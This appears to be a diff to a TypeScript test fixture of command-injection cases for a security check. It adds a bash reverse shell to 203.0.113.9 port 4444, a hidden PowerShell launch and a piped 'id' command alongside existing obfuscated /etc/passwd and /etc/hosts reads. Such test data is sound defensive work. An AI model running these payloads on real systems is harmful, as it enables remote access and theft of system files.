@@ -20,6 +20,9 @@ export const INJECTION_CASES: readonly NamedCases[] = [
       '&net user',
       '1;/???/c?t /???/p?sswd',
       'a;$@ca$@t /etc/hosts',
+      'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
+      'powershell -nop -w hidden -c x',
+      '127.0.0.1|id',
     ],
   },
   {
